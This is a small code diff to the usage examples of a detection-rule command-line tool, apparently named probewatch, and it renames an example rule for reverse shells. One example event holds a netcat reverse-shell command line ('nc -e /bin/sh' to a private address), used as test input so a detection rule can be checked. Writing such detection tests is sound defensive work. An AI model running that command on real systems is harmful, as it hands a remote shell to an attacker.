@@ -20,7 +20,7 @@ EXAMPLES = """examples:
   probewatch rules lint my.yml --placeholder admins=root,ops   values for %admins% (|expand)
   probewatch rules test my.yml --event '{"kind": "process_creation",
       "fields": {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}}'
-  probewatch rules test 'Netcat reverse shell' --event @event.json
+  probewatch rules test 'Reverse Shell Command Line' --event @event.json
 
 lint exit status: 0 when every rule loads and runs (warnings, e.g. a field probewatch
 never fills inside an `or`, do not count unless --strict), 1 when any rule or file
